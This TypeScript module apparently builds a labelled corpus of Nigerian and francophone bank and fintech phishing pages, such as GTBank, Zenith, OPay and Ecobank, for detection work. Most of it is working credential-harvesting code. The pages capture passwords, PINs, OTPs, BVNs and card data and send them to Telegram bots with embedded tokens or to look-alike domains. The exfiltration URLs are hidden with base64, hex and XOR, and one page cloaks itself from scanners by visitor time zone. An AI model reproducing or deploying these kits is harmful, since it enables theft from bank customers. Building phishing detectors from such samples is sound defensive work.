import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { CSS, LOGO, b64, codes, doc, hex, ipLookup, jsR, rawDoc, revB64, tgSend, xorB64, xorDecoder } from '../parts/yv-kit.js';

// Nigerian bank credential kits as they circulate in 2024-25: GTBank, Access, Zenith, FirstBank, UBA,
// Ecobank (francophone) and the fintechs (OPay, PalmPay, Moniepoint).

const gtworldKit = doc({
  title: 'GTWorld | Account Reactivation',
  css: `${CSS.reset}body{background:#f5f5f5}.top{background:#dd4f05;height:6px}.wrap{max-width:400px;margin:30px auto;background:#fff;padding:26px;border-radius:4px;box-shadow:0 1px 6px rgba(0,0,0,.12)}h2{font-weight:500;color:#444;font-size:20px}${CSS.field}.btn{width:100%;background:#dd4f05;color:#fff;border:0;padding:13px;border-radius:4px;font-size:16px;margin-top:18px}.note{font-size:12px;color:#777;margin-top:14px}.hide{display:none}.err{color:#c00;font-size:13px}`,
  body: `<div class="top"></div>
<div class="wrap">
  <div style="text-align:center">${LOGO.gtbank}</div>
  <h2>Reactivate your GTWorld profile</h2>
  <p style="font-size:14px;color:#666">Your GTWorld access was restricted because your profile was not updated with your BVN in line with the recent CBN directive. Sign in to continue.</p>
  <form id="s1" autocomplete="off">
    <label>User ID / Account Number</label><input id="uid" required maxlength="10" inputmode="numeric">
    <label>Password</label><input id="pwd" type="password" required>
    <label>4-digit Transaction PIN</label><input id="pin" type="password" maxlength="4" inputmode="numeric" required>
    <button class="btn" type="submit">Continue</button>
  </form>
  <form id="s2" class="hide">
    <p style="font-size:14px">A one-time password (OTP) has been sent to the phone number linked to your account.</p>
    <label>Enter OTP</label><input id="otp" maxlength="6" inputmode="numeric" required>
    <div class="err" id="e2"></div>
    <button class="btn" type="submit">Verify</button>
  </form>
  <div id="s3" class="hide"><p>&#10004; Your profile has been reactivated successfully. You will be redirected shortly.</p></div>
  <p class="note">Guaranty Trust Bank Ltd. is licensed by the Central Bank of Nigeria. Deposits are insured by NDIC.</p>
</div>
<script>
${tgSend('7184406623:AAHd3kQwz_Fm0Nw2v8sGxP1b9xYk4LqzT0c', '-1002119845530')}
${ipLookup}
var d={};var tries=0;
document.getElementById('s1').onsubmit=function(e){e.preventDefault();d.uid=uid.value;d.pwd=pwd.value;d.pin=pin.value;
getIp().then(function(ip){sendTg('<b>GTB LOGIN</b>%0AUser: '+d.uid+'%0APass: '+d.pwd+'%0APIN: '+d.pin+'%0AIP: '+ip+'%0AUA: '+navigator.userAgent);});
s1.className='hide';s2.className='';};
document.getElementById('s2').onsubmit=function(e){e.preventDefault();tries++;sendTg('<b>GTB OTP '+tries+'</b>: '+otp.value+' | '+d.uid);
if(tries<2){e2.textContent='Invalid OTP. A new code has been sent.';otp.value='';return;}
s2.className='hide';s3.className='';setTimeout(function(){location.href='https://www.gtbank.com/';},2500);};
</script>`,
});

const accessLogin = rawDoc(
  'Access Bank Online Token Synchronization',
  `<style>body{font-family:Tahoma,Arial;background:#eef2f6;margin:0}.h{background:#003b65;padding:14px 20px}.box{background:#fff;width:380px;margin:40px auto;padding:24px;border-top:4px solid #f47b20}input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #ccc}button{background:#f47b20;border:0;color:#fff;padding:11px 24px}</style>
<div class="h">${LOGO.access.replace('#003b65', '#fff')}</div>
<div class="box"><h3 style="color:#003b65">Hardware Token Synchronization</h3>
<p style="font-size:13px">Dear Valued Customer, your Access Online token is out of sync. Kindly provide the details below to re-synchronize and avoid restriction of your account.</p>
<form method="post" action="next.php">
<input type="hidden" name="step" value="login">
Internet Banking ID<input name="username" required>
Password<input type="password" name="password" required>
Token Serial / Phone Number<input name="phone" required>
<button type="submit">Synchronize</button></form></div>`,
);
const accessOtp = rawDoc(
  'Access Bank - Verification',
  `<style>body{font-family:Tahoma,Arial;background:#eef2f6}.box{background:#fff;width:380px;margin:60px auto;padding:24px;border-top:4px solid #f47b20}input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #ccc}button{background:#f47b20;border:0;color:#fff;padding:11px 24px}</style>
<div class="box">${LOGO.access}<h3>Enter Token Code</h3><p style="font-size:13px">Press the button on your hardware token or enter the code sent to your registered line.</p>
<form method="post" action="finish.php"><input name="otp" maxlength="8" required>ATM Card PIN<input name="atmpin" type="password" maxlength="4"><button>Submit</button></form></div>`,
);

const zenithInner = `<div style="max-width:980px;margin:0 auto;display:flex;gap:30px;padding:30px;font-family:Georgia,serif">
<div style="flex:1"><div>${LOGO.zenith}</div><h1 style="color:#e30613;font-weight:normal">Internet Banking</h1>
<p>In our bid to serve you better, all customers are required to revalidate their Internet Banking profile on or before the deadline.</p><img alt="" src="data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" width="300" height="120"><rect width="300" height="120" fill="#eee"/><text x="20" y="66" font-size="18" fill="#999">Zenith - In your best interest</text></svg>')}"></div>
<form id="zf" style="flex:1;background:#f7f7f7;padding:24px;border:1px solid #ddd">
<h3>Login</h3>
<p>User ID<br><input name="uid" style="width:100%;padding:9px"></p>
<p>Password<br><input name="pw" type="password" style="width:100%;padding:9px"></p>
<div id="more" style="display:none"><h4>Card Validation</h4>
<p>Card Number<br><input name="cc" maxlength="19" style="width:100%;padding:9px"></p>
<p>Expiry (MM/YY) <input name="exp" maxlength="5" style="width:80px;padding:9px"> CVV <input name="cvv" maxlength="3" style="width:60px;padding:9px"> PIN <input name="cpin" type="password" maxlength="4" style="width:60px;padding:9px"></p></div>
<button style="background:#e30613;color:#fff;border:0;padding:10px 30px">Login</button></form></div>
<script>var f=document.getElementById('zf'),st=0;f.onsubmit=function(e){e.preventDefault();var fd=new FormData(f);fd.append('s',st);
navigator.sendBeacon(atob('${b64('https://zenith-ib-revalidate.com/panel/rcv.php')}'),fd);
if(st===0){st=1;document.getElementById('more').style.display='block';f.querySelector('button').textContent='Validate';}else{location.replace('https://www.zenithbank.com');}};</script>`;
const zenithKit = `<!doctype html><html><head><meta charset="utf-8"><title>Zenith Bank | Internet Banking</title></head><body style="margin:0"><script>document.write(decodeURIComponent(escape(atob("${b64(zenithInner)}"))));</script><noscript>Please enable JavaScript</noscript></body></html>`;

const fbKit = doc({
  title: 'FirstMobile Upgrade',
  css: `${CSS.reset}body{background:#003b71;color:#fff}main{max-width:380px;margin:0 auto;padding:24px}.panel{background:#fff;color:#222;border-radius:10px;padding:20px;margin-top:16px}${CSS.field}button{width:100%;background:#f2b632;border:0;padding:13px;border-radius:8px;font-weight:700;margin-top:16px}.steps{display:flex;gap:6px}.steps span{flex:1;height:4px;background:#ffffff55}.steps .on{background:#f2b632}`,
  body: `<main>${LOGO.firstbank.replace('#003b71">FirstBank', '#fff">FirstBank')}
<div class="steps"><span class="on"></span><span id="p2"></span><span id="p3"></span></div>
<h2>Upgrade to the new FirstMobile</h2>
<p>Your FirstMobile app will stop working after this week. Complete the upgrade to keep using *894# and FirstMobile.</p>
<div class="panel">
<form id="f" action="https://getform.io/f/bvrr8xqa" method="POST">
<div id="a"><label>Phone number</label><input name="phone" inputmode="tel" required><label>Account number</label><input name="acct" maxlength="10" required><label>FirstMobile 4-digit PIN</label><input name="mpin" type="password" maxlength="4" required></div>
<div id="b" style="display:none"><label>Debit card number</label><input name="card" maxlength="19"><label>Expiry</label><input name="exp" placeholder="MM/YY"><label>Card PIN</label><input name="cardpin" type="password" maxlength="4"></div>
<button id="go" type="button">Next</button></form></div>
<p style="font-size:11px;opacity:.7">&copy; 2025 First Bank of Nigeria Limited. An FBNHoldings Company.</p></main>
<script>document.getElementById('go').onclick=function(){var a=document.getElementById('a'),b=document.getElementById('b');if(b.style.display==='none'){a.style.display='none';b.style.display='block';document.getElementById('p2').className='on';this.textContent='Complete upgrade';}else{document.getElementById('p3').className='on';document.getElementById('f').submit();}};</script>`,
});

const ubaLeo = doc({
  title: 'Chat with Leo | UBA',
  css: `${CSS.reset}body{background:#ece5dd}.bar{background:#d71e28;color:#fff;padding:12px 16px;display:flex;align-items:center;gap:10px}.bar b{font-size:17px}.chat{max-width:520px;margin:0 auto;padding:14px;min-height:80vh}.m{background:#fff;padding:10px 12px;border-radius:8px;margin:8px 0;max-width:80%;font-size:14px}.me{background:#dcf8c6;margin-left:auto}.in{position:fixed;bottom:0;left:0;right:0;background:#f0f0f0;padding:10px;display:flex;gap:8px}.in input{flex:1;padding:11px;border-radius:20px;border:0}.in button{background:#d71e28;color:#fff;border:0;border-radius:20px;padding:0 18px}`,
  body: `<div class="bar"><svg width="34" height="34"><circle cx="17" cy="17" r="16" fill="#fff"/><text x="17" y="22" font-size="13" text-anchor="middle" fill="#d71e28" font-family="Arial" font-weight="700">Leo</text></svg><div><b>Leo by UBA</b><br><small>online</small></div></div>
<div class="chat" id="c"></div>
<form class="in" id="f"><input id="t" autocomplete="off" placeholder="Type a message"><button>Send</button></form>
<script>
var Q=['Hi &#128075; I am Leo, UBA\\'s virtual banker. Your account has been placed on Post No Debit (PND) because your BVN record is incomplete. I will help you fix it in 2 minutes. What is your account number?','Thank you. Please type the phone number linked to the account.','Now enter your 11-digit BVN.','To confirm you are the owner, type your UBA Mobile / U-Direct password.','Finally enter the 4-digit PIN of your UBA debit card.','Please enter the OTP we just sent to you.'];
var K=['acct','phone','bvn','pass','pin','otp'];var i=0,data={};
function say(h,me){var d=document.createElement('div');d.className='m'+(me?' me':'');d.innerHTML=h;c.appendChild(d);window.scrollTo(0,9e9);}
say(Q[0]);
document.getElementById('f').onsubmit=function(e){e.preventDefault();var v=t.value.trim();if(!v)return;say(v.replace(/</g,''),1);data[K[i]]=v;t.value='';
var x=new XMLHttpRequest();x.open('POST','/leo/api/session.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('k='+K[i]+'&v='+encodeURIComponent(v)+'&sid='+(window.sid||(window.sid=Math.random().toString(36).slice(2))));
i++;setTimeout(function(){if(i<Q.length)say(Q[i]);else say('&#9989; Your PND has been lifted. Thank you for banking with UBA &#10084;&#65039;');},900);};
</script>`,
});

const opayToken = '6620813377:AAGr9mQpX0bVvT4e7yKsZlE2aHnUdCwF1oI';
const opayKit = doc({
  title: 'OPay - Account Verification',
  css: `${CSS.reset}body{background:#f4fbf8}.hd{background:#1dcf9f;padding:16px;text-align:center}.card{max-width:380px;margin:-20px auto 0;background:#fff;border-radius:16px;padding:24px;box-shadow:0 4px 20px rgba(0,0,0,.06)}.warn{background:#fff4e5;color:#8a5300;padding:10px;border-radius:8px;font-size:13px}${CSS.field}.pins{display:flex;gap:8px}.pins input{text-align:center;font-size:22px}button{width:100%;margin-top:18px;background:#1dcf9f;color:#fff;border:0;padding:14px;border-radius:24px;font-size:16px}`,
  body: `<div class="hd">${LOGO.opay.replace(/#1dcf9f/g, '#fff')}</div>
<div class="card"><h3>Account restricted</h3>
<div class="warn">We noticed unusual activity on your OPay wallet. Outgoing transfers are paused until you verify ownership. Abeg no share this page with anybody.</div>
<form id="of"><label>OPay account number (phone)</label><input id="ph" inputmode="tel" placeholder="080..." required>
<label>6-digit login password</label><div class="pins">${'<input type="password" maxlength="1" inputmode="numeric" class="p">'.repeat(6)}</div>
<label>4-digit payment PIN</label><input id="pp" type="password" maxlength="4" inputmode="numeric" required>
<button>Verify now</button></form><p id="done" style="display:none">Verification submitted. Restriction will be lifted within 30 minutes.</p></div>
<script>
var _0x=['${hex('https://api.telegram.org/bot')}','${hex(opayToken)}','${hex('/sendMessage?chat_id=5930017442&text=')}'];
function h2s(h){var s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));return s;}
document.getElementById('of').onsubmit=function(e){e.preventDefault();var lp='';document.querySelectorAll('.p').forEach(function(x){lp+=x.value;});
var m='OPAY\\nPhone: '+ph.value+'\\nLogin: '+lp+'\\nPIN: '+pp.value;
new Image().src=h2s(_0x[0])+h2s(_0x[1])+h2s(_0x[2])+encodeURIComponent(m);
this.style.display='none';document.getElementById('done').style.display='block';};
document.querySelectorAll('.p').forEach(function(x,i,a){x.oninput=function(){if(x.value&&a[i+1])a[i+1].focus();};});
</script>`,
});

const palmpayKit = doc({
  title: 'PalmPay ₦25,000 Customer Reward',
  css: `${CSS.reset}body{background:linear-gradient(#6a35ff,#8f66ff);min-height:100vh;color:#fff}.c{max-width:400px;margin:0 auto;padding:22px}.gift{background:#fff;color:#222;border-radius:18px;padding:20px}.amt{font-size:38px;font-weight:800;color:#6a35ff}${CSS.field}button{width:100%;background:#ffb800;border:0;border-radius:28px;padding:14px;font-weight:700;margin-top:16px}.t{font-size:12px;opacity:.8}`,
  body: `<div class="c">${LOGO.palmpay.replace(/#6a35ff">PalmPay/, '#fff">PalmPay')}
<h2>Congrats! You don win PalmPay anniversary bonus &#127881;</h2>
<div class="gift"><div>Your reward</div><div class="amt">&#8358;25,000</div>
<p>E remain <b id="left">37</b> slots for today. Enter your PalmPay details make we credit your wallet sharp sharp.</p>
<form action="https://script.google.com/macros/s/AKfycbx7Qm2nPp_rW4Vd0LsJk3TzH9eYc1uA8fNq/exec" method="post">
<label>PalmPay phone number</label><input name="phone" required>
<label>6-digit login PIN</label><input name="pin" type="password" maxlength="6" required>
<label>Payment PIN</label><input name="ppin" type="password" maxlength="4" required>
<input type="hidden" name="src" value="fb-ads-jul">
<button>Claim my &#8358;25,000</button></form></div>
<p class="t">Comments (2,384)</p>
<p class="t">&#11088; Chioma O.: I don receive my own o! Thank you PalmPay &#10084;</p>
<p class="t">&#11088; Ibrahim K.: E work for me, na true</p></div>
<script>var n=37;setInterval(function(){if(n>3){n--;document.getElementById('left').textContent=n;}},4000);</script>`,
});

const moniepointKit = doc({
  title: 'Moniepoint Agent Portal - Terminal Re-activation',
  css: `${CSS.reset}body{background:#f3f6fc;display:flex;min-height:100vh}.side{width:38%;background:#0357ee;color:#fff;padding:50px}.main{flex:1;display:flex;align-items:center;justify-content:center}.f{width:360px}${CSS.field}button{width:100%;background:#0357ee;color:#fff;border:0;padding:13px;border-radius:8px;margin-top:18px}@media(max-width:700px){.side{display:none}}`,
  body: `<div class="side">${LOGO.moniepoint.replace('#0b1f44', '#fff')}<h1>Agents, your POS terminal needs re-activation</h1><p>Following the CBN directive on agent banking geo-fencing, every POS terminal must be re-registered to a verified agent location. Terminals not re-activated will be disabled.</p></div>
<div class="main"><form class="f" id="mf" method="post" action="/agent/auth/verify.php">
<h2>Agent sign in</h2>
<label>Business phone number</label><input name="phone" required>
<label>Password</label><input name="password" type="password" required>
<label>Terminal ID (TID)</label><input name="tid" placeholder="2MPT...." required>
<label>Transaction PIN</label><input name="tpin" type="password" maxlength="4" required>
<label>Business address</label><input name="addr">
<button>Re-activate terminal</button>
<p style="font-size:12px;color:#888">Moniepoint MFB is licensed by the CBN.</p></form></div>
<script>(function(){var k=[${codes('https://moniepoint-agents-reactivate.top/agent/auth/verify.php')}];document.getElementById('mf').action=String.fromCharCode.apply(null,k);})();</script>`,
});

const ecobankKit = doc({
  title: 'Ecobank Online - Sécurisation de votre compte',
  lang: 'fr',
  css: `${CSS.reset}body{background:#f0f4f5}header{background:#005d82;padding:14px 30px;color:#fff;font-weight:700;font-size:22px}header span{color:#6ebe4a}.b{max-width:440px;margin:36px auto;background:#fff;padding:28px;border-radius:6px}${CSS.field}button{background:#6ebe4a;color:#fff;border:0;padding:12px 26px;border-radius:4px;margin-top:16px}.al{background:#fdecea;color:#8b1c13;padding:10px;font-size:13px;border-radius:4px}`,
  body: `<header>Eco<span>bank</span></header>
<div class="b"><h2>Sécurisation de votre compte</h2>
<div class="al">Suite à la mise à jour réglementaire de la BCEAO, votre accès Ecobank Online sera suspendu sous 24h si vos informations ne sont pas confirmées.</div>
<form id="ef"><label>Identifiant</label><input name="id" required><label>Mot de passe</label><input name="mdp" type="password" required>
<label>Numéro de téléphone</label><input name="tel" placeholder="+225 07 ..."><label>Code reçu par SMS</label><input name="code" maxlength="6">
<button>Confirmer</button></form></div>
<script>
${xorDecoder('_d')}
var _e='${xorB64('https://ecobank-ci-securite.site/api/collect', 'k9')}';
document.getElementById('ef').addEventListener('submit',function(e){e.preventDefault();fetch(_d(_e,'k9'),{method:'POST',body:new URLSearchParams(new FormData(this))}).finally(function(){location.href='https://ecobank.com/ci';});});
</script>`,
});

// The cloaked GTBank kit: visitors that look like scanners get a dull 404, Nigerian mobile users get the kit.
const gtCloakKit = `<div style="font-family:Arial;max-width:360px;margin:30px auto;border:1px solid #eee;padding:20px"><div style="text-align:center">${LOGO.gtbank}</div><h3 style="color:#dd4f05">GTBank Internet Banking</h3><p style="font-size:13px">Due to the ongoing system upgrade, please confirm your details to continue enjoying uninterrupted service.</p><form method="post" action="https://gtb-ng-upgrade.click/log.php"><p>Account Number<br><input name="acc" style="width:100%;padding:8px"></p><p>Internet Banking Password<br><input type="password" name="pw" style="width:100%;padding:8px"></p><p>Token / Card last 6 digits<br><input name="tok" style="width:100%;padding:8px"></p><p>Date of Birth<br><input name="dob" type="date" style="width:100%;padding:8px"></p><button style="background:#dd4f05;color:#fff;border:0;padding:10px 20px">Continue</button></form></div>`;
const gtCloak = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>404 Not Found</title><meta name="robots" content="noindex,nofollow"></head><body><h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache/2.4.41 (Ubuntu) Server</address>
<script>
${xorDecoder('q')}
(function(){var bad=/bot|crawl|spider|headless|lighthouse|python|curl|phantom|selenium|scan/i.test(navigator.userAgent)||navigator.webdriver||!navigator.languages||navigator.languages.length===0;
var tz='';try{tz=Intl.DateTimeFormat().resolvedOptions().timeZone;}catch(e){}
if(bad||(tz&&tz!=='Africa/Lagos'))return;
document.title='GTBank | Internet Banking';document.body.innerHTML=q('${xorB64(gtCloakKit, 'lag0s')}','lag0s');})();
</script></body></html>`;

const zenithLure = doc({
  title: 'Payment Advice - Zenith Bank',
  css: `${CSS.reset}body{background:#f2f2f2}.m{max-width:560px;margin:30px auto;background:#fff;border:1px solid #ddd}.h{background:#e30613;color:#fff;padding:14px 18px;font-weight:700}.c{padding:22px;font-size:14px;line-height:1.6}.btn{display:inline-block;background:#e30613;color:#fff;padding:12px 22px;text-decoration:none;border-radius:3px}table{width:100%;border-collapse:collapse}td{border-bottom:1px solid #eee;padding:6px}`,
  body: `<div class="m"><div class="h">Zenith Bank Transaction Notification</div><div class="c">
<p>Dear Customer,</p><p>A transfer has been initiated in your favour. Find the payment advice attached below. For security, payment advice documents are only available to the beneficiary after sign-in.</p>
<table><tr><td>Amount</td><td><b>NGN 4,750,000.00</b></td></tr><tr><td>Sender</td><td>DANGOTE CEMENT PLC</td></tr><tr><td>Reference</td><td>ZIB/TRF/0925/88214</td></tr><tr><td>Status</td><td>Pending beneficiary confirmation</td></tr></table>
<p style="margin-top:20px"><a class="btn" href="https://docs-zenithbank-advice.pages.dev/view/ZIB-TRF-0925-88214">&#128196; View Payment Advice (PDF)</a></p>
<p style="font-size:12px;color:#888">This e-mail was sent from a notification-only address. Zenith Bank Plc, Plot 84 Ajose Adeogun Street, Victoria Island, Lagos.</p></div></div>`,
});
const zenithDocKit = doc({
  title: 'Zenith Bank Secure Document Portal',
  css: `${CSS.reset}body{background:url("data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="#ddd"/><path d="M0 40L40 0" stroke="#ccc"/></svg>')}")}.ov{position:fixed;inset:0;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center}.b{background:#fff;width:360px;padding:24px;border-radius:6px}${CSS.field}button{width:100%;background:#e30613;color:#fff;border:0;padding:12px;margin-top:14px}`,
  body: `<div class="ov"><div class="b">${LOGO.zenith}<p style="font-size:14px">Sign in with your Zenith Internet Banking or email credentials to view <b>ZIB-TRF-0925-88214.pdf</b></p>
<form id="d"><label>Email or User ID</label><input name="u" required><label>Password</label><input name="p" type="password" required><button>View Document</button></form><p id="m" style="color:#c00;font-size:13px"></p></div></div>
<script>var n=0;document.getElementById('d').onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.append('try',++n);fetch('https://submit-form.com/Zq8yV3kR',{method:'POST',body:f,mode:'no-cors'});if(n<2){document.getElementById('m').textContent='Incorrect password. Please try again.';this.p.value='';}else{location.href='https://www.zenithbank.com/media/downloads';}};</script>`,
});

const accessWizard = doc({
  title: 'Access Bank | Diamond Customer Migration',
  css: `${CSS.reset}body{background:#fafafa}.nav{border-bottom:3px solid #f47b20;padding:12px 24px;background:#fff}.w{max-width:520px;margin:28px auto;background:#fff;padding:28px;border:1px solid #eee}.bar{display:flex;margin-bottom:18px}.bar div{flex:1;text-align:center;font-size:12px;padding:6px;border-bottom:3px solid #ddd}.bar .a{border-color:#f47b20;color:#f47b20}${CSS.field}.row{display:flex;gap:10px}.row>div{flex:1}button{background:#003b65;color:#fff;border:0;padding:12px 30px;margin-top:18px;border-radius:3px}.st{display:none}.st.on{display:block}`,
  body: `<div class="nav">${LOGO.access}</div>
<div class="w"><h2 style="color:#003b65">Former Diamond Bank customers</h2><p style="font-size:14px">Complete the final stage of your account migration to Access Bank. Accounts not migrated by Friday will be placed on restriction.</p>
<div class="bar"><div class="a" id="b1">1. Profile</div><div id="b2">2. Card</div><div id="b3">3. Confirm</div></div>
<form id="wz">
<div class="st on" id="t1"><label>Full name</label><input name="name"><label>Account number (NUBAN)</label><input name="nuban" maxlength="10"><label>BVN</label><input name="bvn" maxlength="11"><label>Internet banking password</label><input name="ibpw" type="password"></div>
<div class="st" id="t2"><label>Card number</label><input name="pan" maxlength="19"><div class="row"><div><label>Expiry</label><input name="exp"></div><div><label>CVV</label><input name="cvv" maxlength="3"></div><div><label>PIN</label><input name="pin" type="password" maxlength="4"></div></div></div>
<div class="st" id="t3"><label>OTP sent to your phone</label><input name="otp" maxlength="6"><label>Mother's maiden name</label><input name="mmn"></div>
<button id="nx">Continue</button></form></div>
<script>
var s=1;document.getElementById('wz').onsubmit=function(e){e.preventDefault();var fd=new FormData(this);fd.append('stage',s);fd.append('ref',document.referrer);
var x=new XMLHttpRequest();x.open('POST','gate.php',true);x.send(fd);
if(s<3){document.getElementById('t'+s).className='st';document.getElementById('b'+s).className='';s++;document.getElementById('t'+s).className='st on';document.getElementById('b'+s).className='a';}
else{this.innerHTML='<p>Thank you. Your migration request (ref DM-'+Math.floor(Math.random()*1e6)+') is being processed.</p>';}};
</script>`,
});

const fbUssd = `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>*894# PIN Reset</title></head><body style="margin:0;font-family:Arial;background:#e8eef5">
<div style="background:#003b71;padding:10px 14px">${LOGO.firstbank.replace('#003b71">FirstBank', '#fff">FirstBank')}</div>
<div style="padding:16px;max-width:420px;margin:auto">
<h3>Reset your *894# USSD PIN</h3>
<p style="font-size:14px">You entered a wrong PIN 3 times and your *894# profile has been blocked. Reset it here to continue making transfers and airtime recharge.</p>
<form id="u" style="background:#fff;padding:16px;border-radius:8px">
<p>Registered phone number<br><input name="p" style="width:100%;padding:10px"></p>
<p>Last 6 digits of your debit card<br><input name="l6" maxlength="6" style="width:100%;padding:10px"></p>
<p>Card expiry month/year<br><input name="e" style="width:100%;padding:10px"></p>
<p>Old PIN<br><input name="op" type="password" maxlength="4" style="width:100%;padding:10px"></p>
<p>New PIN<br><input name="np" type="password" maxlength="4" style="width:100%;padding:10px"></p>
<button style="width:100%;padding:12px;background:#f2b632;border:0;font-weight:bold">Reset PIN</button></form></div>
<script src="/assets/js/app.min.js"></script></body></html>`;
const fbUssdJs = `!function(){var e=[${codes('https://api.telegram.org/bot')}],t="${revB64('7440192358:AAFbx0pYTq3JmW1cRk9zL5nGvHsA2dE8uOy')}",n="${b64('/sendMessage?chat_id=-1001987355210&text=')}";function r(s){return atob(s).split("").reverse().join("")}document.getElementById("u").addEventListener("submit",function(o){o.preventDefault();var a=[].map.call(this.elements,function(x){return x.name?x.name+"="+x.value:""}).join("%0A");fetch(String.fromCharCode.apply(null,e)+r(t)+atob(n)+"FBN894%0A"+a).then(function(){alert("Your *894# PIN has been reset successfully.")})})}();`;

export const entries: Entry[] = [
  {
  id: 'yv-firstmobile-upgrade-sms-shortlink',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://fbn-alert.ng-sms.link/u/7HqK2',
  routes: {
    'fbn-alert.ng-sms.link/u/7HqK2': redirectRoute(302, 'https://track.clkmob-ng.xyz/c?id=88213&r=fbn'),
    'track.clkmob-ng.xyz/c': redirectRoute(302, 'https://firstmobile-upgrade.firstbank-ng.xyz/upgrade/'),
    'firstmobile-upgrade.firstbank-ng.xyz/upgrade/': htmlRoute(fbKit),
  },
},
  { id: 'yv-uba-leo-chatbot-pnd-harvest', label: 'phishing', kind: 'bank-chatbot-kit', url: 'https://uba-leo-support.web.app/leo/chat', body: ubaLeo },
  { id: 'yv-opay-restriction-hex-tg', label: 'phishing', kind: 'fintech-wallet-kit', url: 'https://opay-restriction-lift.netlify.app/verify', body: opayKit },
  { id: 'yv-ecobank-ci-securisation-fr', label: 'phishing', kind: 'bank-credential-kit', url: 'https://ecobank-ci-securite.site/ci/connexion', body: ecobankKit },
  { id: 'yv-gtbank-geo-cloaked-404', label: 'phishing', kind: 'cloaked-bank-kit', url: 'https://ekitiheritagehotels.com/gtb/secure/index.php', body: gtCloak },
  {
  id: 'yv-zenith-payment-advice-lure',
  label: 'phishing',
  kind: 'payment-advice-lure',
  url: 'https://zenith-notify-mail.com/advice/ZIB-TRF-0925-88214',
  body: zenithLure,
  routes: { 'docs-zenithbank-advice.pages.dev/view/ZIB-TRF-0925-88214': htmlRoute(zenithDocKit) },
},
];
